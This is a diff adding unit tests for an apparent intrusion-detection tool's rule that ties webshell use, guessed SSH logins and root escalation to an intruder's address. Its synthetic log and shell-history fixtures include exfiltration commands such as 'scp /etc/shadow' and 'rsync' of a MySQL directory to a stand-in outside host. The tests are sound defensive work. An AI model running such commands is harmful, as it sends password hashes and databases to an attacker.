@@ -136,6 +136,98 @@ private slots:
         QCOMPARE(findings[0].arguments["webshell_said_by"].get<std::string>(), std::string("f1"));
     }
 
+    // Whoever comes from an intruder's address is the intruder, whatever account he has.
+    void intruder_logins_data() {
+        QTest::addColumn<QStringList>("findings");
+        QTest::addColumn<QStringList>("log");
+        QTest::addColumn<QStringList>("web");
+        QTest::addColumn<QStringList>("found");  // subject severity confidence, what it rests on, whom he became
+        const std::string out = "203.0.113.77", other = "198.51.100.9", in = "192.168.1.20";
+        const QString shell = "webshell/script /var/www/html/x.php 4 1 0 0", guessed = "ssh/brute_force_success 203.0.113.77 3 1 1 3";
+        const auto sudo = [](std::int64_t at, const char* user) { return QString::fromStdString(time_of(at) + "+00:00 web1 sudo:     ") + user + " : TTY=pts/0 ; PWD=/home/x ; USER=root ; COMMAND=/usr/bin/rsync -a /var/lib/mysql x@203.0.113.99:/l"; };
+        const auto row = [](const char* name, QStringList findings, QStringList log, QStringList web, QStringList found) { QTest::newRow(name) << findings << log << web << found; };
+        const QStringList none, used{request(60, out, "POST /x.php")};
+        row("used the webshell, then logged in", {shell}, {accepted(k_hour, "ann", out)}, used, {"ann 3 1 f1 "});
+        row("and became root", {shell}, {accepted(k_hour, "ann", out), sudo(k_hour + 600, "ann")}, used, {"ann 3 1 f1 root"});
+        row("root by whom came from elsewhere afterwards", {shell}, {accepted(k_hour, "ann", out), accepted(2 * k_hour, "ann", in), sudo(2 * k_hour + 600, "ann")}, used, {"ann 3 1 f1 "});
+        row("root by another account", {shell}, {accepted(k_hour, "ann", out), sudo(k_hour + 600, "bob")}, used, {"ann 3 1 f1 "});
+        row("others used the webshell", {shell}, {accepted(k_hour, "ann", out)}, {request(60, other, "POST /x.php")}, none);
+        row("his address asked for another page", {shell}, {accepted(k_hour, "ann", out)}, {request(60, out, "POST /contact.php")}, none);
+        row("was at home there before", {shell}, {accepted(-60 * k_hour, "ann", out), accepted(k_hour, "ann", out)}, used, {"ann 2 0 f1 "});
+        row("from one's own network", {shell}, {accepted(k_hour, "ann", in)}, {request(60, in, "POST /x.php")}, {"ann 2 0 f1 "});
+        row("the guessed account has its finding", {guessed + " ann"}, {accepted(2 * k_hour, "ann", out)}, none, none);
+        row("another account of who guessed passwords", {guessed + " ann"}, {accepted(2 * k_hour, "ann", out), accepted(3 * k_hour, "bob", out, "publickey")}, none, {"bob 3 1 f1 "});
+        row("no webshell, no guesses", {}, {accepted(k_hour, "ann", out), sudo(k_hour + 600, "ann")}, {request(60, out, "POST /x.php")}, none);
+    }
+    void intruder_logins() {
+        QFETCH(QStringList, findings);
+        QFETCH(QStringList, log);
+        QFETCH(QStringList, web);
+        QFETCH(QStringList, found);
+        test::CaseFixture fixture;
+        fill(fixture, findings, log, web);
+        for (const auto& finding : findings)
+            if (const auto part = finding.split(' '); part.size() > 6) fixture.sql("INSERT INTO finding_item(finding, place, key) VALUES('f1', 1, '" + part[6].toStdString() + "')");
+        QStringList got;
+        for (const auto& finding : fixture.detect("intruder_logins"))
+            got << QString::fromStdString(finding.subject + " " + std::to_string(finding.severity) + " " + std::to_string(finding.confidence) + " " + finding.arguments["rests_on"].get<std::string>() + " " + finding.arguments.value("became", ""));
+        QCOMPARE(got, found);
+    }
+
+    // Data that is sent from a session of somebody whom nobody knows.
+    void stranger_sends_data() {
+        QTest::addColumn<QStringList>("log");
+        QTest::addColumn<QString>("history");  // hours and commands
+        QTest::addColumn<QString>("target");
+        QTest::addColumn<QString>("found");  // user severity confidence address
+        const std::string out = "203.0.113.77", usual = "198.51.100.20", near = "192.168.1.20";
+        const auto daily = [&](const std::string& user, const std::string& address, const std::string& method) {
+            QStringList all;
+            for (int day = -10; day < 0; ++day) all << accepted(day * 24 * k_hour, user, address, method);
+            return all;
+        };
+        const auto row = [](const char* name, QStringList log, const char* history, const char* target, const char* found) { QTest::newRow(name) << log << QString(history) << QString(target) << QString(found); };
+        const char *sends = "2 scp /etc/shadow x@203.0.113.99:", *weeks = "-100 scp a.sql x@203.0.113.99:;-50 scp a.sql x@203.0.113.99:;2 scp a.sql x@203.0.113.99:";
+        row("root, who never came; others did", daily("ann", usual, "publickey") + QStringList{accepted(k_hour, "root", out)}, sends, "203.0.113.99", "root 3 1 203.0.113.77");
+        row("root, from where he never came", daily("root", usual, "publickey") + QStringList{accepted(k_hour, "root", out)}, sends, "203.0.113.99", "root 3 1 203.0.113.77");
+        row("with a key", daily("root", usual, "publickey") + QStringList{accepted(k_hour, "root", out, "publickey")}, sends, "203.0.113.99", "");
+        row("a migration from the usual place", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", usual)}, sends, "203.0.113.99", "");
+        row("a neighbour of the usual place", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", "198.51.100.99")}, sends, "203.0.113.99", "");
+        row("from the own network", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", near)}, sends, "203.0.113.99", "");
+        row("copies for weeks, one of them on a journey", daily("root", usual, "password") + QStringList{accepted(k_hour, "root", out)}, weeks, "203.0.113.99", "");
+        row("a machine that nobody used before", {accepted(k_hour, "root", out)}, sends, "203.0.113.99", "");
+        row("his addresses change always", {accepted(-90 * k_hour, "root", "198.51.100.1"), accepted(-70 * k_hour, "root", "198.51.101.1"), accepted(-50 * k_hour, "root", "198.51.102.1"), accepted(-30 * k_hour, "root", "198.51.103.1"), accepted(k_hour, "root", out)}, sends, "203.0.113.99", "");
+        row("a day later", daily("root", usual, "publickey") + QStringList{accepted(-30 * k_hour, "root", out)}, sends, "203.0.113.99", "");
+        row("in the session of another", daily("root", usual, "publickey") + QStringList{accepted(k_hour, "root", out), accepted(k_hour + 600, "root", usual, "publickey")}, sends, "203.0.113.99", "");
+    }
+    void stranger_sends() {
+        QFETCH(QStringList, log);
+        QFETCH(QString, history);
+        QFETCH(QString, target);
+        QFETCH(QString, found);
+        test::CaseFixture fixture;
+        fill(fixture, {}, log, {});
+        test::FileSpec spec;
+        spec.path = "/root/.bash_history";
+        std::int64_t first = 0, last = 0;
+        int lines = 0;
+        for (const auto& one : history.split(';')) {
+            const auto time = k_first_login + one.section(' ', 0, 0).toInt() * k_hour;
+            first = ++lines == 1 ? time : first, last = time;
+            spec.bytes += "#" + std::to_string(time) + "\n" + one.section(' ', 1).toStdString() + "\n";
+        }
+        const auto inode = fixture.add_parsed("shell_history", spec);
+        fixture.sql("INSERT INTO finding VALUES('f1', 'x', 'exfiltration/sent', 1, 1, '" + target.toStdString() + "', 2, 0, '{}', " + std::to_string(first) + ", 0, 3, " + std::to_string(last) + ", 0, 1, 0)");
+        fixture.sql("INSERT INTO finding_item(finding, place, inode, line, key) SELECT 'f1', line, inode, line, 'root' FROM shell_command WHERE inode = " + std::to_string(inode));
+        QString got;
+        for (const auto& finding : fixture.detect("intruder_logins")) {
+            QCOMPARE(finding.rule, std::string("correlation/stranger_sends"));
+            QCOMPARE(finding.arguments["rests_on"].get<std::string>(), std::string("f1"));
+            got += QString::fromStdString(finding.subject + " " + std::to_string(finding.severity) + " " + std::to_string(finding.confidence) + " " + finding.arguments["address"].get<std::string>());
+        }
+        QCOMPARE(got, found);
+    }
+
     void another_machine() {
         test::CaseFixture fixture;
         fill(fixture, {"accounts/uid_zero_twin toor 4 2 0 2"}, {accepted(k_hour, "toor", "203.0.113.77")}, {});
